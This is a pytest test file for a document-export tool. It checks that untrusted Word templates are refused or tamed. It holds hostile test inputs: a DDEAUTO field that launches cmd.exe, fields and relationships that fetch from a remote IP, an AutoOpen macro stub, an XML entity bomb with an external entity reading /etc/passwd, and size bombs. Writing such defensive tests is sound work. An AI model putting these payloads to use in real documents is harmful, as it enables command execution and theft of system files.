"""A template that somebody was sent cannot hurt: it is refused with a sentence, or tamed."""

from __future__ import annotations

import random
import tracemalloc
import zipfile
from collections.abc import Callable
from pathlib import Path

import docx
import pytest
from docx.oxml import OxmlElement
from docx.oxml.ns import qn

from fakes.records import interview_record
from fakes.templates import CONTENT_TYPES, DOCUMENT_TYPE, company_template, rewritten
from firsthand.errors import BadTemplate
from firsthand.export.interview.writing import write_interview_record
from firsthand.export.word.blank import blank_page
from firsthand.export.word.template import open_template

HEADER_RELATIONS = "word/_rels/header1.xml.rels"
SETTINGS_RELATIONS = "word/_rels/settings.xml.rels"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
MOST_MEMORY = 300_000_000


def relations(kind: str, target: str, mode: str = "External") -> bytes:
    return (
        f'<?xml version="1.0"?><Relationships xmlns="{PACKAGE}"><Relationship Id="rId9" '
        f'Type="{OFFICE}/{kind}" Target="{target}" TargetMode="{mode}"/></Relationships>'
    ).encode()


def with_field(instruction: str) -> Callable[[docx.document.Document], None]:
    def change(document: docx.document.Document) -> None:
        paragraph = document.sections[0].footer.paragraphs[0]._p
        for piece in (instruction[:5], instruction[5:]):  # Word splits what is typed as it likes
            node = OxmlElement("w:instrText")
            node.text = piece
            run = OxmlElement("w:r")
            run.append(node)
            paragraph.append(run)

    return change


def is_refused(path: Path) -> bool:
    """Whether no document can be begun on it; anything but BadTemplate goes through."""
    try:
        blank_page("en-US", "en-US", template=path)
    except BadTemplate as error:
        return bool(error.remedy)
    return False


@pytest.mark.parametrize(
    "instruction",
    [
        ' DDEAUTO c:\\\\windows\\\\cmd.exe "/k" ',
        ' INCLUDEPICTURE "http://198.51.100.7/track.png" \\d ',
        ' includetext "\\\\\\\\198.51.100.7\\\\share\\\\x.docx" ',
        " LINK Excel.Sheet.8 c:\\\\book.xls ",
    ],
)
def test_a_field_that_fetches_is_refused(tmp_path: Path, instruction: str) -> None:
    template = company_template(tmp_path / "company.docx", with_field(instruction))
    with pytest.raises(BadTemplate, match="fetches"):
        open_template(template)


def test_a_link_in_the_footer_is_no_reason_to_refuse(tmp_path: Path) -> None:
    field = with_field(' HYPERLINK "https://tallyhouse.example" ')
    assert open_template(company_template(tmp_path / "company.docx", field))


@pytest.mark.parametrize("kind", ["image", "oleObject", "attachedTemplate", "frame"])
def test_a_header_that_takes_something_from_elsewhere_is_refused(tmp_path: Path, kind: str) -> None:
    template = company_template(tmp_path / "company.docx")
    found = relations(kind, "http://198.51.100.7/x")
    rewritten(template, {HEADER_RELATIONS: lambda _: found})
    with pytest.raises(BadTemplate, match="fetches"):
        open_template(template)


def test_an_attached_template_elsewhere_is_left_behind(tmp_path: Path) -> None:
    template = company_template(tmp_path / "company.docx")
    elsewhere = relations("attachedTemplate", "http://198.51.100.7/x.dotm")
    attached = f'<w:attachedTemplate xmlns:r="{OFFICE}" r:id="rId9"/>'
    rewritten(
        template,
        {
            SETTINGS_RELATIONS: lambda _: elsewhere,
            "word/settings.xml": lambda old: old.replace(
                b"<w:zoom", attached.encode() + b"<w:zoom", 1
            ),
        },
    )
    made = tmp_path / "record.docx"
    write_interview_record(interview_record(), made, template)
    with zipfile.ZipFile(made) as parts:
        assert not any(b"198.51.100.7" in parts.read(name) for name in parts.namelist())


def test_macros_are_refused_and_said(tmp_path: Path) -> None:
    template = company_template(tmp_path / "company.docm")
    macros = b"ms-word.document.macroEnabled.main+xml"
    old_type = b"openxmlformats-officedocument." + DOCUMENT_TYPE
    rewritten(
        template,
        {CONTENT_TYPES: lambda old: old.replace(b"application/vnd." + old_type,
                                                b"application/vnd." + macros)},
    )  # fmt: skip
    with pytest.raises(BadTemplate, match="macros"):
        open_template(template)


def test_macros_under_a_harmless_type_do_not_come_along(tmp_path: Path) -> None:
    def infected(document: docx.document.Document) -> None:
        from docx.opc.packuri import PackURI
        from docx.opc.part import Part

        part = Part(PackURI("/word/vbaProject.bin"), "application/vnd.ms-office.vbaProject",
                    b"Sub AutoOpen()", document.part.package)  # fmt: skip
        document.part.relate_to(part, f"{OFFICE}/vbaProject")

    template = company_template(tmp_path / "company.docx", infected)
    made = tmp_path / "record.docx"
    write_interview_record(interview_record(), made, template)
    with zipfile.ZipFile(made) as parts:
        assert not any("vba" in name for name in parts.namelist())


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_entities_are_refused(tmp_path: Path, encoding: str) -> None:
    template = company_template(tmp_path / "company.docx")
    bomb = (
        '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">'
        '<!ENTITY c SYSTEM "file:///etc/passwd">]><x>&b;&c;</x>'
    )
    rewritten(template, {"word/styles.xml": lambda _: bomb.encode(encoding)})
    with pytest.raises(BadTemplate):
        open_template(template)


@pytest.mark.parametrize("part", ["word/styles.xml", "word/media/image1.png"])
def test_a_bomb_is_refused_before_it_is_unpacked(tmp_path: Path, part: str) -> None:
    template = company_template(tmp_path / "company.docx")
    rewritten(template, {part: lambda old: old + b" " * 200_000_000})
    tracemalloc.start()
    try:
        with pytest.raises(BadTemplate, match="larger"):
            open_template(template)
        assert tracemalloc.get_traced_memory()[1] < MOST_MEMORY
    finally:
        tracemalloc.stop()


@pytest.mark.parametrize(
    ("part", "before", "tag", "times"),
    [
        ("word/styles.xml", b"</w:styles>", b"<w:style/>", 3_000),
        ("word/styles.xml", b"</w:styles>", b"<w:b/>", 1_000_000),
        ("word/document.xml", b"</w:body>", b"<w:p/>", 1_000_000),
    ],
)
def test_a_crowd_of_small_parts_is_refused(
    tmp_path: Path, part: str, before: bytes, tag: bytes, times: int
) -> None:
    template = company_template(tmp_path / "company.docx")
    rewritten(template, {part: lambda old: old.replace(before, tag * times + before)})
    with pytest.raises(BadTemplate, match="larger"):
        open_template(template)


@pytest.mark.parametrize(
    "content",
    [b"", b"PK\x03\x04 and no more", b"{\\rtf1 hello}", b"\xd0\xcf\x11\xe0" + b"\0" * 600],
)
def test_what_is_no_word_file_is_refused(tmp_path: Path, content: bytes) -> None:
    path = tmp_path / "company.docx"
    path.write_bytes(content)
    with pytest.raises(BadTemplate):
        open_template(path)


def test_a_damaged_file_never_raises_anything_else(tmp_path: Path) -> None:
    whole = company_template(tmp_path / "company.docx").read_bytes()
    random_bytes = random.Random(8)
    tried = 0
    for _ in range(50):
        damaged = bytearray(whole)
        for _ in range(random_bytes.randrange(1, 12)):
            damaged[random_bytes.randrange(len(damaged))] = random_bytes.randrange(256)
        path = tmp_path / "damaged.docx"
        path.write_bytes(bytes(damaged[: random_bytes.randrange(len(damaged) // 2, len(damaged))])
                         if random_bytes.random() < 0.3 else bytes(damaged))  # fmt: skip
        tried += is_refused(path)
    assert tried > 0


def test_damaged_xml_never_raises_anything_else(tmp_path: Path) -> None:
    whole = company_template(tmp_path / "company.docx").read_bytes()
    chance = random.Random(9)
    names = ["word/document.xml", "word/settings.xml", "word/_rels/document.xml.rels",
             "word/header1.xml", "word/styles.xml", "docProps/core.xml", CONTENT_TYPES]  # fmt: skip

    def without_a_piece(old: bytes) -> bytes:
        start = chance.randrange(len(old))
        return old[:start] + old[start + chance.randrange(1, 40) :]

    tried = 0
    for turn in range(56):
        path = tmp_path / "damaged.docx"
        path.write_bytes(whole)
        rewritten(path, {names[turn % len(names)]: without_a_piece})
        tried += is_refused(path)
    assert 0 < tried < 56


def test_a_locked_template_gives_documents_that_can_be_edited(tmp_path: Path) -> None:
    def locked(document: docx.document.Document) -> None:
        protection = OxmlElement("w:documentProtection")
        protection.set(qn("w:edit"), "readOnly")
        protection.set(qn("w:enforcement"), "1")
        document.settings.element.insert(0, protection)

    made = open_template(company_template(tmp_path / "company.docx", locked))
    assert made.settings.element.find(qn("w:documentProtection")) is None
